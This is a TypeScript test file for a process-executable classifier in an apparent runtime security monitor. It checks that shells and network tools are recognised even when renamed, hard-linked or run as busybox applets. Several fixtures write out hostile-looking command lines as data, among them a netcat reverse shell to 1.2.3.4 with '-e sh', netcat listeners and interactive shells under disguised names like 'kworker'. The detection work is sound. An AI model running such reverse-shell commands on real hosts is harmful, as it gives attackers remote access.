import { copyFileSync, linkSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { appletOf, createExeClassifier } from '../../../../collectors/procfs/exe-class.js';

let dir: string;
let procRoot: string;
let hostRoot: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-exe-class-'));
  procRoot = join(dir, 'proc');
  hostRoot = join(dir, 'host');
  mkdirSync(join(hostRoot, 'bin'), { recursive: true });
  mkdirSync(join(hostRoot, 'tmp'), { recursive: true });
  writeFileSync(join(hostRoot, 'bin', 'bash'), 'bash-binary-content');
  symlinkSync('bash', join(hostRoot, 'bin', 'sh'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** A fixture /proc/<pid>: exe links to `target`, root to `root` (a container's). */
function proc(pid: number, target: string, root?: string): void {
  mkdirSync(join(procRoot, String(pid)), { recursive: true });
  symlinkSync(target, join(procRoot, String(pid), 'exe'));
  if (root) symlinkSync(root, join(procRoot, String(pid), 'root'));
}

describe('exe classifier', () => {
  it('knows a host shell by its inode, a renamed copy by its content, and leaves other binaries alone', () => {
    const bash = join(hostRoot, 'bin', 'bash');
    copyFileSync(bash, join(hostRoot, 'tmp', 'kworker'));
    writeFileSync(join(hostRoot, 'tmp', 'same-size'), 'x'.repeat('bash-binary-content'.length));
    writeFileSync(join(hostRoot, 'tmp', 'other'), 'something else entirely');
    proc(1, bash);
    proc(2, join(hostRoot, 'tmp', 'kworker'));
    proc(3, join(hostRoot, 'tmp', 'same-size'));
    proc(4, join(hostRoot, 'tmp', 'other'));
    const c = createExeClassifier({ procRoot, hostRoot });
    expect(c.classify(1, '/bin/bash', ['bash'], undefined)).toMatchObject({ exeClass: 'shell', program: 'bash' });
    expect(c.classify(2, '/tmp/kworker', ['kworker'], undefined)).toMatchObject({ exeClass: 'shell', program: 'bash' });
    const plain = c.classify(3, '/tmp/same-size', ['x'], undefined);
    expect(plain?.exeId).toMatch(/^\d+:\d+$/);
    expect(plain?.exeClass).toBeUndefined();
    expect(c.classify(4, '/tmp/other', ['x'], undefined)?.exeClass).toBeUndefined();
    expect(c.classify(99, '/gone', [], undefined)).toBeUndefined();
  });

  it("classifies a container's busybox by applet, through its image's links (absolute ones too)", () => {
    const image = join(dir, 'image');
    mkdirSync(join(image, 'bin'), { recursive: true });
    writeFileSync(join(image, 'bin', 'busybox'), 'busybox-multicall');
    symlinkSync('/bin/busybox', join(image, 'bin', 'nc'));
    // The same binary copied under another name: still busybox.
    mkdirSync(join(image, 'tmp'));
    copyFileSync(join(image, 'bin', 'busybox'), join(image, 'tmp', 'updater'));
    proc(10, join(image, 'bin', 'busybox'), image);
    proc(11, join(image, 'tmp', 'updater'), image);
    const c = createExeClassifier({ procRoot, hostRoot });
    expect(c.classify(10, '/bin/busybox', ['nc', '1.2.3.4', '80', '-e', 'sh'], 'ctr')).toMatchObject({ exeClass: 'network_tool', program: 'nc', multicall: true });
    expect(c.classify(10, '/bin/busybox', ['busybox', 'nc', '-l'], 'ctr')).toMatchObject({ exeClass: 'network_tool', program: 'nc' });
    expect(c.classify(10, '/bin/busybox', ['-sh'], 'ctr')).toMatchObject({ exeClass: 'shell', program: 'sh' });
    expect(c.classify(10, '/bin/busybox', ['wget', 'http://x'], 'ctr')).toMatchObject({ program: 'wget' });
    expect(c.classify(10, '/bin/busybox', ['wget'], 'ctr')?.exeClass).toBeUndefined();
    expect(c.classify(11, '/tmp/updater', ['updater', 'sh'], 'ctr')).toMatchObject({ program: 'updater' });
  });

  it("finds a renamed shell in a container after the process that indexed the container's image is gone", () => {
    const image = join(dir, 'image');
    mkdirSync(join(image, 'bin'), { recursive: true });
    mkdirSync(join(image, 'tmp'));
    writeFileSync(join(image, 'bin', 'bash'), 'container-bash-binary');
    writeFileSync(join(image, 'bin', 'cp'), 'cp-binary');
    copyFileSync(join(image, 'bin', 'bash'), join(image, 'tmp', 'kworker'));
    // `cp /bin/bash /tmp/kworker` is classified first (and indexes the image), then exits.
    proc(20, join(image, 'bin', 'cp'), image);
    proc(21, join(image, 'tmp', 'kworker'), image);
    const c = createExeClassifier({ procRoot, hostRoot });
    expect(c.classify(20, '/bin/cp', ['cp'], 'ctr')?.exeClass).toBeUndefined();
    rmSync(join(procRoot, '20'), { recursive: true });
    expect(c.classify(21, '/tmp/kworker', ['/tmp/kworker', '-i'], 'ctr')).toMatchObject({ exeClass: 'shell', program: 'bash' });
  });
});

describe('appletOf', () => {
  it('a hard-linked busybox image: each applet is what it runs as, not the first link the index met', () => {
    const image = join(dir, 'image');
    mkdirSync(join(image, 'bin'), { recursive: true });
    writeFileSync(join(image, 'bin', 'busybox'), 'busybox-multicall');
    // As the official busybox image has it: every applet a hard link of /bin/busybox.
    for (const applet of ['sh', 'nc', 'ls']) linkSync(join(image, 'bin', 'busybox'), join(image, 'bin', applet));
    proc(20, join(image, 'bin', 'nc'), image);
    proc(21, join(image, 'bin', 'sh'), image);
    proc(22, join(image, 'bin', 'ls'), image);
    const c = createExeClassifier({ procRoot, hostRoot });
    expect(c.classify(20, '/bin/nc', ['nc', '-l', '-p', '80'], 'ctr')).toMatchObject({ exeClass: 'network_tool', program: 'nc' });
    expect(c.classify(21, '/bin/sh', ['sh', '-c', 'id'], 'ctr')).toMatchObject({ exeClass: 'shell', program: 'sh' });
    // ls is the same inode, but not a shell: the applet it runs as decides.
    const ls = c.classify(22, '/bin/ls', ['ls', '-l'], 'ctr');
    expect(ls?.exeClass).toBeUndefined();
    expect(ls).toMatchObject({ program: 'ls', multicall: true });
    // A copy of it under an unknown name is found by content, and is multi-call too.
    mkdirSync(join(image, 'tmp'));
    copyFileSync(join(image, 'bin', 'busybox'), join(image, 'tmp', 'kworker'));
    proc(23, join(image, 'tmp', 'kworker'), image);
    expect(c.classify(23, '/tmp/kworker', ['sh', '-i'], 'ctr')).toMatchObject({ exeClass: 'shell', program: 'sh', multicall: true });
  });

  it('takes argv[0], or argv[1] when argv[0] is the binary itself or a /proc/self/exe re-exec', () => {
    expect(appletOf('busybox', ['/bin/nc', 'h', '1'])).toBe('nc');
    expect(appletOf('busybox', ['busybox', 'nc'])).toBe('nc');
    expect(appletOf('busybox', ['/bin/busybox', 'sh', '-c', 'x'])).toBe('sh');
    expect(appletOf('toybox', ['toybox', 'nc'])).toBe('nc');
    expect(appletOf('busybox', ['busybox', '--help'])).toBeUndefined();
    expect(appletOf('busybox', [])).toBeUndefined();
  });
});
